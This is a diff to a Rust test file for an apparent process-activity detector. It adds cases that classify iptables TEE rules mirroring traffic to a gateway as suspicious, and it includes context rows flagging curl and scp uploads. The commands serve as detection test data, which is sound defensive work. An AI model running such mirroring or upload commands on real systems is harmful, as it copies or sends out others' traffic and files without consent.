@@ -7,6 +7,8 @@ use super::super::{
 };
 use crate::{detect::testing, event::Bytes, process::Process};
 
+const TEE: (Tool, Action) = (Tool::Iptables, Action::Mirror);
+
 #[test]
 fn executable_before_argv0() {
     type Row = (&'static str, &'static str, Option<(Tool, Action)>);
@@ -33,6 +35,21 @@ fn executable_before_argv0() {
         ("/usr/bin/coreutils", "base64 f", Some((Encoder, Action::Encode))),
         ("/usr/bin/coreutils", "coreutils --coreutils-prog=base64 f", Some((Encoder, Action::Encode))),
         ("/usr/bin/coreutils", "coreutils base64 f", Some((Encoder, Action::Encode))),
+        ("/usr/sbin/xtables-nft-multi", "iptables -A F -j TEE --gateway 192.0.2.9", Some(TEE)),
+        ("/usr/sbin/xtables-nft-multi", "/sbin/ip6tables-nft -A F -j TEE --gateway 2001:db8::9", Some(TEE)),
+        ("/usr/sbin/xtables-legacy-multi", "iptables-legacy -A F -j TEE --gateway 192.0.2.9", Some(TEE)),
+        (
+            "/usr/sbin/xtables-nft-multi",
+            "xtables-nft-multi iptables -A F -j TEE --gateway 192.0.2.9",
+            Some(TEE),
+        ),
+        ("/usr/sbin/xtables-nft-multi", "x main4 -A F -j TEE --gateway 192.0.2.9", Some(TEE)),
+        ("/usr/sbin/xtables-nft-multi", "iptables -L", Some((Tool::Iptables, Action::Local))),
+        ("/usr/sbin/xtables-nft-multi", "iptables-save", None),
+        ("/usr/sbin/xtables-nft-multi", "iptables-restore -n", None),
+        ("/usr/sbin/xtables-nft-multi", "iptables-translate -A F -j TEE --gateway 192.0.2.9", None),
+        ("/usr/sbin/xtables-nft-multi", "xtables-nft-multi", None),
+        ("/usr/sbin/xtables-nft-multi", "", None),
         // Behind the dynamic loader.
         ("/lib64/ld-linux-x86-64.so.2", "ld.so /usr/bin/curl -T f http://h/", Some((Curl, Upload))),
         ("/lib64/ld-linux-x86-64.so.2", "x --library-path /l /usr/bin/scp f h:", Some((Scp, Upload))),
